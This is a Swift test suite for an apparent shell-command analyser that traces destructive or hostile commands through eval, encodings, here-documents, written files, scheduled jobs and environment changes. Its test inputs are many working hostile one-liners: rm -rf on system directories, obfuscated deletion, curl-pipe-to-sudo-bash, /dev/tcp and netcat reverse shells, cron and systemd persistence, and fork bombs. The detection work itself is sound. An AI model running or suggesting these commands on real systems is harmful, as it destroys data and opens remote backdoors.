import Testing

@Suite("The evaluator follows text that becomes code")
struct EvaluatorCodeTests {
    typealias Row = (script: String, seen: [String])

    static let evaluated: [Row] = [
        (#"eval "rm -rf /var""#, ["rm -rf /var"]),
        ("eval rm -rf '/v'ar", ["rm -rf /var"]),
        ("eval eval eval rm -rf /etc", ["rm -rf /etc"]),
        ("a='$b'; b=/etc; eval rm -rf $a", ["rm -rf /etc"]),
        ("eval 'x=/etc'; rm -rf $x", ["rm -rf /etc"]),
        (#"eval "$X""#, ["(unknown code: eval)"]),
        (#"eval "$(cat /opt/x)""#, ["cat /opt/x", "(unknown code: eval)"]),
        ("x=eval; $x 'rm -rf /etc'", ["rm -rf /etc"]),
        (#"sh -c 'eval "$0"' 'rm -rf /etc'"#, ["rm -rf /etc [via sh]"]),
        ("mapfile -C 'rm -rf /etc;' -c 1 a < x", ["(unknown code: mapfile)", "rm -rf /etc <x", "(unknown code: the program …)"]),
    ]
    @Test("eval reads its words again", arguments: evaluated)
    func seesEvaluated(row: Row) { #expect(observed(row.script) == row.seen) }

    static let encoded: [Row] = [
        ("echo cm0gLXJmIC91c3I= | base64 -d | bash", ["echo cm0gLXJmIC91c3I=", #"base64 -d <<<cm0gLXJmIC91c3I=\n"#, "rm -rf /usr [via bash]"]),
        ("$(echo 'cm0gLXJmIC9ldGM=' | base64 --decode)", ["echo cm0gLXJmIC9ldGM=", #"base64 --decode <<<cm0gLXJmIC9ldGM=\n"#, "rm -rf /etc"]),
        ("echo 2f657463 | xxd -r -p | xargs rm -rf", ["echo 2f657463", #"xxd -r -p <<<2f657463\n"#, "rm -rf /etc [via xargs]"]),
        ("echo 'cte/ fr- mr' | rev | sh", ["echo cte/ fr- mr", #"rev <<<cte/ fr- mr\n"#, "rm -rf /etc [via sh]"]),
        (#"echo "em -ef /rtc" | tr 'er' 're' | sh"#, ["echo em -ef /rtc", #"tr er re <<<em -ef /rtc\n"#, "rm -rf /etc [via sh]"]),
        (#"printf '\162\155 -rf /etc' | sh"#, [#"printf \162\155 -rf /etc"#, "rm -rf /etc [via sh]"]),
        (#"printf '%s %s %s\n' rm -rf /etc | bash"#, [#"printf %s %s %s\n rm -rf /etc"#, "rm -rf /etc [via bash]"]),
        ("echo xm -rf /etc | sed s/x/r/ | sh", ["echo xm -rf /etc", #"sed s/x/r/ <<<xm -rf /etc\n"#, "rm -rf /etc [via sh]"]),
        ("rm -rf $(cut -d: -f2 <<< a:/etc)", [#"cut -d: -f2 <<<a:/etc\n"#, "rm -rf /etc"]),
        ("rm -rf $(head -c4 <<< /etcxx)", [#"head -c4 <<</etcxx\n"#, "rm -rf /etc"]),
        (#"echo "rm -rf /etc" | awk '{print}' | sh"#, ["echo rm -rf /etc", #"awk {print} <<<rm -rf /etc\n"#, "rm -rf /etc [via sh]"]),
        (#"echo "rm -rf /etc" | perl -pe 's/x/y/' | sh"#, ["echo rm -rf /etc", #"perl -pe s/x/y/ <<<rm -rf /etc\n"#, "sh from perl", "(unknown code: the output of perl)"]),
    ]
    @Test("Encoded text is decoded", arguments: encoded)
    func seesEncoded(row: Row) { #expect(observed(row.script) == row.seen) }

    static let hereDocuments: [Row] = [
        (#"bash <<EOF\#nrm -rf /opt/../usr\#nEOF"#, ["rm -rf /opt/../usr [via bash]"]),
        (#"bash <<'EOF'\#nrm -rf $X\#nEOF"#, ["rm -rf {''|…}+ [via bash]"]),
        (#"cat <<EOF | sudo sh\#nrm -rf /etc\#nEOF"#, [#"cat <<<rm -rf /etc\n"#, "rm -rf /etc [via sudo, sh] as root"]),
        (#"cat <<EOF\#n$(rm -rf /etc)\#nEOF"#, ["rm -rf /etc", #"cat <<<\n"#]),
        (#"cat <<'EOF'\#n$(rm -rf /etc)\#nEOF"#, [#"cat <<<$(rm -rf /etc)\n"#]),
        (#"cat > /tmp/notes <<EOF\#nrm -rf /etc\#nEOF"#, [#"cat <<<rm -rf /etc\n >/tmp/notes{rm -rf /etc\n}"#]),
        ("bash <<< 'rm -rf /etc'", ["rm -rf /etc [via bash]"]),
        ("tee >(bash) <<< 'rm -rf /etc'", ["bash from ?", "(unknown code: a pipe)", #"tee /dev/fd/64 <<<rm -rf /etc\n"#, "rm -rf /etc [via bash]"]),
        ("source <(echo rm -rf /etc)", ["echo rm -rf /etc", "rm -rf /etc"]),
    ]
    @Test("Here-documents are data or code by who reads them", arguments: hereDocuments)
    func seesHereDocuments(row: Row) { #expect(observed(row.script) == row.seen) }

    static let fetched: [Row] = [
        ("curl -sSL https://x.example/run.sh | sudo bash", ["curl -sSL https://x.example/run.sh", "bash from curl [via sudo] as root", "(run fetched: curl)"]),
        (#"bash -c "$(wget -qO- https://x.example/x)""#, ["wget -qO- https://x.example/x", "(run fetched: wget)"]),
        (#"X=$(curl https://x); eval "$X""#, ["curl https://x", "(run fetched: curl)"]),
        ("bash <(curl -s https://x)", ["curl -s https://x", "(run fetched: curl)"]),
        ("curl https://x | gunzip | sh", ["curl https://x", "gunzip from curl", "sh from gunzip", "(run fetched: curl)"]),
        ("cat <(curl -s x) | bash", ["curl -s x", "cat /dev/fd/64", "bash from cat", "(run fetched: curl)"]),
        ("curl -o /tmp/x.sh https://x; chmod +x /tmp/x.sh; /tmp/x.sh", ["curl -o /tmp/x.sh https://x", "chmod +x /tmp/x.sh", "(run fetched: curl)"]),
        ("wget https://e.x/run.sh && sh ./run.sh", ["wget https://e.x/run.sh", "(run fetched: wget)"]),
        ("curl x > /tmp/a; mv /tmp/a /tmp/b; bash /tmp/b", ["curl x >/tmp/a", "mv /tmp/a /tmp/b", "(run fetched: curl)"]),
        ("curl -s https://x -o /tmp/x.py && python3 /tmp/x.py", ["curl -s https://x -o /tmp/x.py", "python3 /tmp/x.py", "(run fetched: /tmp/x.py)"]),
        ("curl -s https://x | python3 -", ["curl -s https://x", "python3 - from curl", "(run fetched: curl)"]),
        ("curl -s https://x | jq .name", ["curl -s https://x", "jq .name from curl"]),
    ]
    @Test("What comes from the network stays known as such", arguments: fetched)
    func seesFetched(row: Row) { #expect(observed(row.script) == row.seen) }

    static let written: [Row] = [
        ("echo 'rm -rf /etc' > /tmp/a.sh; sh /tmp/a.sh", [#"echo rm -rf /etc >/tmp/a.sh{rm -rf /etc\n}"#, "rm -rf /etc [via sh]"]),
        ("echo 'rm -rf /etc' > /tmp/a.sh; chmod +x /tmp/a.sh && /tmp/a.sh", [#"echo rm -rf /etc >/tmp/a.sh{rm -rf /etc\n}"#, "chmod +x /tmp/a.sh", "rm -rf /etc"]),
        (#"cat > /tmp/b.sh <<'E'\#nrm -rf "$1"\#nE\#nbash /tmp/b.sh /etc"#, [#"cat <<<rm -rf "$1"\n >/tmp/b.sh{rm -rf "$1"\n}"#, "rm -rf /etc [via bash]"]),
        ("printf 'rm -rf ' > /tmp/a; printf /etc >> /tmp/a; . /tmp/a", ["printf rm -rf  >/tmp/a{rm -rf }", "printf /etc >>/tmp/a{/etc}", "rm -rf /etc"]),
        ("echo 'rm -rf /etc' | tee /tmp/a | cat; bash < /tmp/a", ["echo rm -rf /etc", #"tee /tmp/a <<<rm -rf /etc\n"#, #"cat <<<rm -rf /etc\n"#, "rm -rf /etc [via bash]"]),
        (#"t=$(mktemp); echo 'rm -rf /etc' > "$t"; sh "$t""#, ["mktemp", #"echo rm -rf /etc >/tmp/NAME{rm -rf /etc\n}"#, "rm -rf /etc [via sh]"]),
        (
            #"cat > /tmp/x.py <<EOF\#n#!/usr/bin/env python3\#nimport os\#nEOF\#n/tmp/x.py"#,
            [#"cat <<<#!/usr/bin/env python3\nimport os\n >/tmp/x.py{#!/usr/bin/env python3\nimport os\n}"#, "(run file /tmp/x.py)", "python3 /tmp/x.py"]
        ),
        ("ln -s /etc /tmp/x; rm -rf /tmp/x/", ["ln -s /etc /tmp/x", "rm -rf {/tmp/x/|/etc}"]),
        ("cp /bin/rm /tmp/r; /tmp/r -rf /etc", ["cp /bin/rm /tmp/r", "/bin/rm -rf /etc"]),
        ("ln -s /bin/rm /tmp/r && /tmp/r -rf /etc", ["ln -s /bin/rm /tmp/r", "/bin/rm -rf /etc"]),
        ("ln -s /etc /tmp/x; rm -rf /tmp/x/*", ["ln -s /etc /tmp/x", "rm -rf {/tmp/x/*|/etc/*}"]),
        ("ln -s /etc /tmp/x; cd /tmp/x && rm -rf *", ["ln -s /etc /tmp/x", "rm -rf * in /tmp/x or /etc"]),
        ("ln -s /etc/passwd /tmp/x; echo > /tmp/x", ["ln -s /etc/passwd /tmp/x", #"echo >{/tmp/x|/etc/passwd}{\n}"#]),
        ("mount --bind /etc /mnt; rm -rf /mnt/*", ["mount --bind /etc /mnt", "rm -rf {/mnt/*|/etc/*}"]),
    ]
    @Test("Files that the script writes are known when they run", arguments: written)
    func seesWritten(row: Row) { #expect(observed(row.script) == row.seen) }

    static let planted: [Row] = [
        ("echo '* * * * * root rm -rf /etc' > /etc/cron.d/x", [#"echo * * * * * root rm -rf /etc >/etc/cron.d/x{* * * * * root rm -rf /etc\n}"#, "rm -rf /etc [via cron] &"]),
        (
            "(crontab -l; echo '0 1 * * * rm -rf /etc') | crontab -",
            ["crontab -l", "echo 0 1 * * * rm -rf /etc", "crontab - from crontab", "(unknown code: a job that is set up)", "rm -rf /etc [via cron] &", "rm -rf /etc [via cron] &"]
        ),
        (
            #"printf '[Service]\nExecStart=/bin/rm -rf /etc\n' | sudo tee /etc/systemd/system/x.service"#,
            [
                #"printf [Service]\nExecStart=/bin/rm -rf /etc\n"#, #"tee /etc/systemd/system/x.service <<<[Service]\nExecStart=/bin/rm -rf /etc\n [via sudo] as root"#,
                "/bin/rm -rf /etc [via systemd] &",
            ]
        ),
        ("echo 'rm -rf /etc' | sudo tee /etc/cron.daily/x", ["echo rm -rf /etc", #"tee /etc/cron.daily/x <<<rm -rf /etc\n [via sudo] as root"#, "rm -rf /etc [via cron] &"]),
        (#"echo "rm -rf /etc" > /etc/profile.d/x.sh"#, [#"echo rm -rf /etc >/etc/profile.d/x.sh{rm -rf /etc\n}"#, "rm -rf /etc [via start-up] &"]),
        ("echo 'rm -rf /etc' | at now", ["echo rm -rf /etc", #"at now <<<rm -rf /etc\n"#, "rm -rf /etc [via at] &"]),
    ]
    @Test("Code that is set up to run later is judged now", arguments: planted)
    func seesPlanted(row: Row) { #expect(observed(row.script) == row.seen) }

    static let environment: [Row] = [
        ("export PATH=/var/tmp/bin:$PATH", ["(environment PATH=/var/tmp/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin)"]),
        (
            "PATH=/tmp/bin:$PATH; echo 'rm -rf /etc' > /tmp/bin/ls; ls",
            ["(environment PATH=/tmp/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin)", #"echo rm -rf /etc >/tmp/bin/ls{rm -rf /etc\n}"#, "rm -rf /etc", "ls"]
        ),
        ("LD_PRELOAD=/x.so ls", ["(environment LD_PRELOAD=/x.so)", "ls with LD_PRELOAD=/x.so"]),
        (
            "sudo PATH=/x:$PATH rm a",
            ["(environment PATH=/x:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin)", "rm a with PATH=/x:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin [via sudo] as root"]
        ),
        ("PROMPT_COMMAND='rm -rf /etc'", ["(environment PROMPT_COMMAND=rm -rf /etc)", "rm -rf /etc"]),
        ("BASH_ENV=/tmp/e bash -c true", ["(environment BASH_ENV=/tmp/e)", "(run file /tmp/e)", "true [via bash]"]),
        ("hash -p /tmp/x ls", ["(environment hash ls=/tmp/x)"]),
        ("EDITOR='rm -rf /etc' crontab -e", ["(environment EDITOR=rm -rf /etc)", "rm -rf /etc", "crontab -e with EDITOR=rm -rf /etc"]),
    ]
    @Test("Changes to what later commands mean are told", arguments: environment)
    func seesEnvironment(row: Row) { #expect(observed(row.script) == row.seen) }

    static let backdoors: [Row] = [
        (
            "bash -i >& /dev/tcp/203.0.113.10/9001 0>&1",
            [
                "(connect /dev/tcp/203.0.113.10/9001)", "deny backdoor-shell", "bash -i <socket /dev/tcp/203.0.113.10/9001 >/dev/tcp/203.0.113.10/9001 2 >/dev/tcp/203.0.113.10/9001",
                "deny backdoor-shell",
            ]
        ),
        (
            "exec 5<>/dev/tcp/1.2.3.4/9; bash <&5 >&5 2>&5",
            ["(connect /dev/tcp/1.2.3.4/9)", "deny backdoor-shell", "bash <socket /dev/tcp/1.2.3.4/9 >/dev/tcp/1.2.3.4/9 2 >/dev/tcp/1.2.3.4/9 5 >/dev/tcp/1.2.3.4/9", "deny backdoor-shell"]
        ),
        (
            "exec 5<>/dev/tcp/1.2.3.4/9; cat <&5 | while read l; do $l >&5; done",
            [
                "(connect /dev/tcp/1.2.3.4/9)", "cat <socket /dev/tcp/1.2.3.4/9 5 >/dev/tcp/1.2.3.4/9", "(run fetched: a socket)", "deny backdoor-shell", "(run fetched: a socket)",
                "deny backdoor-shell",
            ]
        ),
        (
            "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 1234 > /tmp/f",
            ["mkfifo /tmp/f", "cat /tmp/f", "sh -i from cat", "(unknown code: the output of cat)", "nc 10.0.0.1 1234 from sh >/tmp/f", "deny backdoor-shell"]
        ),
        ("nc h 1 | sh", ["nc h 1", "sh from nc", "(run fetched: nc)", "deny backdoor-shell"]),
        ("a() { b; }; b() { a & }; a", ["deny resource-exhaustion"]),
        ("while true; do sleep 100 & done", ["true forever", #"(exhaust(what: "processes, started without end"))"#, "sleep 100 & forever"]),
        ("while true; do job & wait; done", ["true forever", "job & forever"]),
        ("while :; do :& done", [": forever", #"(exhaust(what: "processes, started without end"))"#, ": & forever"]),
        ("echo '/tmp/q & /tmp/q' > /tmp/q; chmod +x /tmp/q; /tmp/q", [#"echo /tmp/q & /tmp/q >/tmp/q{/tmp/q & /tmp/q\n}"#, "chmod +x /tmp/q", "deny resource-exhaustion"]),
    ]
    @Test("A shell on a socket is found", arguments: backdoors)
    func seesBackdoors(row: Row) { #expect(observed(row.script) == row.seen) }

    static let limits: [Row] = [
        ("sudo sudo sudo sudo sudo sudo sudo sudo sudo sudo sudo sudo sudo sudo sudo sudo sudo sudo rm x", ["deny not-understood"]),
        ("for a in {1..16}; do for b in {1..16}; do for c in {1..16}; do for d in {1..16}; do ((x++)); done; done; done; done", ["deny not-understood"]),
        ("x=aaaaaaaaaaaaaaaa; for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14; do x=$x$x; done", ["deny not-understood"]),
        ("rm /tmp/{1..9}{1..9}{1..9}{1..9}", ["deny not-understood"]),
        ("bash -c 'rm ('", ["deny not-understood"]),
    ]
    @Test("What is beyond the limits is denied", arguments: limits)
    func seesLimits(row: Row) { #expect(observed(row.script) == row.seen) }
}
